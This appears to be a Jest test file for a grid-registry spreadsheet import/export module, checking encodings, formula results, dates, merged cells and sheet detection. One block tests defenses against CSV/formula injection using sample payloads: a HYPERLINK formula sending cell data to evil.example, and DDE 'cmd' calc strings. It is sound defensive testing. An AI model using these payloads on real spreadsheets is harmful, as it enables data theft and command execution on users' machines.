import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS, { type CellValue } from 'exceljs';
import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { registryCsv, registryWorkbook } from '../../scripts/registry/workbook';
import { REGISTRY_COLUMNS, type RegistryColumnKey } from '../../types/registry';
import { readRegistrySheet } from '../domain/registry';
import { sheetsOf } from './sheet';

const TEMPLATES = join(__dirname, '..', '..', 'templates');
const headers = REGISTRY_COLUMNS.map((c) => c.header);
const row = { street: '钢山街道', community: '平阳社区', code: 'GS-0109', name: '平阳社区第九网格', kind: '城镇社区网格', households: 320, chiefPhone: '05375212345', chiefName: '孙丽' };
const column = (key: RegistryColumnKey) => REGISTRY_COLUMNS.findIndex((c) => c.key === key) + 1;

/** The first sheet's cells of a file, as the import reads them. */
const firstSheet = async (bytes: Buffer) => (await sheetsOf(bytes))[0].rows;

const xlsx = async (workbook: ExcelJS.Workbook) => Buffer.from(await workbook.xlsx.writeBuffer());

describe('reading registry sheets', () => {
  it.each(['grid-registry-template.xlsx', 'grid-registry-template.csv'])('the shipped %s has every column the import reads, and no rows', async (file) => {
    const sheets = await sheetsOf(readFileSync(join(TEMPLATES, file)));
    expect(sheets[0].rows[0]).toEqual(headers);
    expect(readRegistrySheet(sheets).problems).toEqual([{ row: null, column: null, message: '表格里没有网格数据' }]);
  });

  it('an .xlsx keeps codes and phones as typed (leading zeros included)', async () => {
    const [, cells] = await firstSheet(await registryWorkbook([row]));
    expect(cells.slice(0, 6)).toEqual(['钢山街道', '平阳社区', 'GS-0109', '平阳社区第九网格', '城镇社区网格', '320']);
    expect(cells[headers.indexOf('网格长电话')]).toBe('05375212345');
  });

  it.each([
    ['UTF-8 with a BOM', (csv: string) => Buffer.from(csv)],
    ['GB18030 without one', (csv: string) => iconv.encode(csv.replace(/^\uFEFF/, ''), 'gb18030')],
  ])('a CSV in %s reads the same', async (_, encode) => {
    const sheets = await sheetsOf(encode(registryCsv([row])));
    expect(sheets).toEqual([{ name: null, hidden: false, rows: [headers, expect.any(Array)] }]);
    expect(sheets[0].rows[1][headers.indexOf('网格名称')]).toBe('平阳社区第九网格');
  });

  it('a quoted cell may hold commas and line breaks (a GeoJSON boundary, a list of workers)', async () => {
    const workers = '王强 13805370002；\n赵敏 13805370003';
    const boundary = '{"type":"Polygon","coordinates":[[[116.96,35.39],[116.97,35.39],[116.97,35.4],[116.96,35.39]]]}';
    const [, cells] = await firstSheet(Buffer.from(registryCsv([{ ...row, workers, boundary }])));
    expect(cells[headers.indexOf('网格员')]).toBe(workers);
    expect(cells[headers.indexOf('边界（GeoJSON）')]).toBe(boundary);
  });
});

describe('a cell that begins like a formula stays text in every sheet GridLink writes (OWASP, CSV Injection)', () => {
  const FORMULAS: Array<[string, string]> = [
    ['a HYPERLINK formula', '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'],
    ['a plus sign', '+1+cmd|\' /C calc\'!A0'],
    ['a minus sign', '-2+3+cmd|\' /C calc\'!A0'],
    ['an at sign', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['a tab in front', '\t=1+1'],
    ['a carriage return in front', '\r=1+1'],
    ['a full-width equals sign', '\uFF1D1+1'],
  ];
  const NAME = headers.indexOf('网格名称');

  it.each(FORMULAS)('%s: the CSV cell starts with an apostrophe, and the import reads it back as written', async (_, text) => {
    const csv = registryCsv([{ ...row, name: text }]);
    const [, written] = parse(csv, { bom: true }) as string[][];
    expect(written[NAME]).toBe(`'${text}`);
    const [, read] = await firstSheet(Buffer.from(csv));
    expect(read[NAME]).toBe(text);
  });

  it.each(FORMULAS)('%s: the .xlsx cell is a string in Text format, and the import reads it back as written', async (_, text) => {
    const bytes = await registryWorkbook([{ ...row, name: text }]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const cell = workbook.getWorksheet('网格台账')!.getRow(2).getCell(column('name'));
    expect([cell.type, cell.numFmt, cell.value]).toEqual([ExcelJS.ValueType.String, '@', text.replace(/\r/g, '\n')]);
    const [, read] = await firstSheet(bytes);
    expect(read[NAME]).toBe(text.replace(/\r/g, '\n'));
  });

  it('a number, a negative one included, is written as it is: only text can be taken for a formula', () => {
    const [, written] = parse(registryCsv([{ ...row, lat: -35.404, households: 320 }]), { bom: true }) as string[][];
    expect([written[headers.indexOf('中心纬度')], written[headers.indexOf('户数')]]).toEqual(['-35.404', '320']);
  });
});

const NO_RESULT = { fault: '公式没有计算结果，请用 Excel 打开并保存后再导入' };
const shows = (error: string) => ({ fault: `单元格显示错误值 ${error}，请改正公式或数据后再导入` });
const at = (hours: number, minutes: number) => new Date(Date.UTC(1899, 11, 30, hours, minutes));

describe('cells as exceljs returns them read as Excel shows them', () => {
  it.each<[string, CellValue, string | undefined, unknown]>([
    ['text', '平阳社区', undefined, '平阳社区'],
    ['a whole number', 320, undefined, '320'],
    ['a mobile number typed as a number', 13900000001, undefined, '13900000001'],
    ['a decimal with binary noise', 0.1 + 0.2, undefined, '0.3'],
    ['a coordinate shown rounded by its format', 116.967512, '0.00', '116.967512'],
    ['a number with thousands separators', 1204, '#,##0', '1204'],
    ['a boolean', true, undefined, 'TRUE'],
    ['a date', new Date(Date.UTC(2026, 2, 1)), 'yyyy/m/d', '2026/3/1'],
    ['a Chinese date', new Date(Date.UTC(2026, 2, 1)), 'yyyy"年"m"月"d"日"', '2026年3月1日'],
    ['a time, h:mm', at(8, 30), 'h:mm', '8:30'],
    ['a time, hh:mm', at(18, 0), 'hh:mm', '18:00'],
    ['rich text', { richText: [{ text: '平阳', font: { bold: true } }, { text: '社区' }] }, undefined, '平阳社区'],
    ['a hyperlink', { text: '平阳社区党群服务站', hyperlink: 'https://example.org/station' }, undefined, '平阳社区党群服务站'],
    ['a formula with a text result', { formula: 'A1&"网格"', result: '平阳社区网格' }, undefined, '平阳社区网格'],
    ['a formula whose result is 0', { formula: 'SUM(Z1:Z3)', result: 0 }, undefined, '0'],
    ['a formula whose result is a time', { formula: 'TIME(8,30,0)', result: at(8, 30) }, 'h:mm', '8:30'],
    ['a formula without a cached result', { formula: 'A1&"网格"' }, undefined, NO_RESULT],
    ['a formula whose cached result is empty text (=IFERROR(…,""))', { formula: 'IFERROR(VLOOKUP(A1,Z:Z,2,0),"")', result: '' }, undefined, ''],
    ['a shared formula whose cached result is empty text', { formula: 'IF(A1="","",A1)', result: '', shareType: 'shared', ref: 'B2:B2' } as CellValue, undefined, ''],
    ['a formula whose result is #N/A', { formula: 'VLOOKUP(A1,Z:Z,2,0)', result: { error: '#N/A' } }, undefined, shows('#N/A')],
    ['an error value', { error: '#DIV/0!' }, undefined, shows('#DIV/0!')],
  ])('%s', async (_, value, numFmt, expected) => {
    const workbook = new ExcelJS.Workbook();
    const cell = workbook.addWorksheet('网格台账').getCell('B2');
    cell.value = value;
    if (numFmt) cell.numFmt = numFmt;
    const [, cells] = await firstSheet(await xlsx(workbook));
    expect(cells[1]).toEqual(expected);
  });

  it('a shared formula reads each cell’s own result', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('网格台账');
    sheet.getCell('A1').value = { formula: 'ROW()*100', result: 100, shareType: 'shared', ref: 'A1:A3' } as CellValue;
    sheet.getCell('A2').value = { sharedFormula: 'A1', result: 200 };
    sheet.getCell('A3').value = { sharedFormula: 'A1', result: 300 };
    expect((await firstSheet(await xlsx(workbook))).map((cells) => cells[0])).toEqual(['100', '200', '300']);
  });

  it('a date in a workbook on the 1904 date system reads the date Excel shows', async () => {
    const workbook = new ExcelJS.Workbook();
    workbook.properties.date1904 = true;
    const cell = workbook.addWorksheet('网格台账').getCell('A1');
    cell.value = new Date(Date.UTC(2026, 2, 1));
    cell.numFmt = 'yyyy-mm-dd';
    expect((await firstSheet(await xlsx(workbook)))[0][0]).toBe('2026-03-01');
  });

  it('a merged cell gives its value to every cell it covers', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('网格台账');
    sheet.getCell('A1').value = '钢山街道';
    sheet.mergeCells('A1:A3');
    sheet.getCell('B1').value = '网格台账';
    sheet.mergeCells('B1:D1');
    const cells = await firstSheet(await xlsx(workbook));
    expect(cells.map((r) => r[0])).toEqual(['钢山街道', '钢山街道', '钢山街道']);
    expect(cells[0].slice(1, 4)).toEqual(['网格台账', '网格台账', '网格台账']);
  });
});

/** A registry workbook with one grid row, its cells set by `fill` after the template's. */
async function registryWith(fill: (sheet: ExcelJS.Worksheet) => void): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await registryWorkbook([{ ...row, stationName: '平阳社区党群服务站' }])) as unknown as ArrayBuffer);
  fill(workbook.getWorksheet('网格台账')!);
  return xlsx(workbook);
}

describe('registry rows with formulas, times and errors', () => {
  it('a 服务时间 cell formatted h:mm showing 8:30 reads 8:30', async () => {
    const sheet = await registryWith((s) => {
      const cell = s.getCell(2, column('stationHours'));
      cell.value = at(8, 30);
      cell.style = { ...cell.style, numFmt: 'h:mm' }; // a copy: a row's cells share one style object
    });
    const read = readRegistrySheet(await sheetsOf(sheet));
    expect(read.problems).toEqual([]);
    expect(read.rows[0].station).toEqual({ name: '平阳社区党群服务站', address: '', hours: '8:30' });
  });

  it('a 户数 formula whose result is 0 reads 0, not empty', async () => {
    const sheet = await registryWith((s) => {
      s.getCell(2, column('households')).value = { formula: 'COUNTA(Z2:Z9)', result: 0 };
    });
    expect(readRegistrySheet(await sheetsOf(sheet)).rows[0].households).toBe(0);
  });

  it.each<[string, RegistryColumnKey, CellValue, string]>([
    ['a 网格名称 formula saved without a result', 'name', { formula: 'B2&"第九网格"' }, '公式没有计算结果，请用 Excel 打开并保存后再导入'],
    ['a 网格长姓名 lookup showing #N/A', 'chiefName', { formula: 'VLOOKUP(C2,人员!A:B,2,0)', result: { error: '#N/A' } }, '单元格显示错误值 #N/A，请改正公式或数据后再导入'],
  ])('%s is refused with its row and column', async (_, key, value, message) => {
    const sheet = await registryWith((s) => {
      s.getCell(2, column(key)).value = value;
    });
    const header = REGISTRY_COLUMNS.find((c) => c.key === key)!.header;
    expect(readRegistrySheet(await sheetsOf(sheet)).problems).toEqual([{ row: 2, column: header, message }]);
  });
});

describe('which sheet, which row, in real workbooks', () => {
  const grid = ['钢山街道', '平阳社区', '', '平阳社区第九网格', '城镇社区网格'];
  const registryRows = (sheet: ExcelJS.Worksheet) => {
    sheet.addRow(headers.slice(0, 5));
    sheet.addRow(grid);
  };

  it('skips a hidden lookup sheet placed first', async () => {
    const workbook = new ExcelJS.Workbook();
    const lookup = workbook.addWorksheet('选项', { state: 'hidden' });
    lookup.addRows([['网格类型'], ['城镇社区网格'], ['农村网格']]);
    registryRows(workbook.addWorksheet('网格台账'));
    const read = readRegistrySheet(await sheetsOf(await xlsx(workbook)));
    expect(read).toMatchObject({ problems: [], source: { sheet: '网格台账', headerRow: 1 }, rows: [{ row: 2, name: '平阳社区第九网格' }] });
  });

  it('skips the 填写说明 sheet dragged to the front', async () => {
    const template = new ExcelJS.Workbook();
    await template.xlsx.load((await registryWorkbook([row])) as unknown as ArrayBuffer);
    const reordered = new ExcelJS.Workbook();
    for (const name of ['填写说明', '网格台账']) {
      const target = reordered.addWorksheet(name);
      template.getWorksheet(name)!.eachRow((r) => target.addRow(r.values as CellValue[]));
    }
    const read = readRegistrySheet(await sheetsOf(await xlsx(reordered)));
    expect(read).toMatchObject({ problems: [], source: { sheet: '网格台账', headerRow: 1 }, rows: [{ row: 2, code: 'GS-0109' }] });
  });

  it('reads below a merged title row and a 填报单位 row', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Sheet1');
    sheet.getCell('A1').value = '钢山街道网格台账（2026 年）';
    sheet.mergeCells('A1:E1');
    sheet.getCell('A2').value = '填报单位：钢山街道办事处';
    sheet.getCell('D2').value = new Date(Date.UTC(2026, 2, 1));
    registryRows(sheet);
    const read = readRegistrySheet(await sheetsOf(await xlsx(workbook)));
    expect(read).toMatchObject({ problems: [], source: { sheet: 'Sheet1', headerRow: 3 }, rows: [{ row: 4, name: '平阳社区第九网格' }] });
  });
});
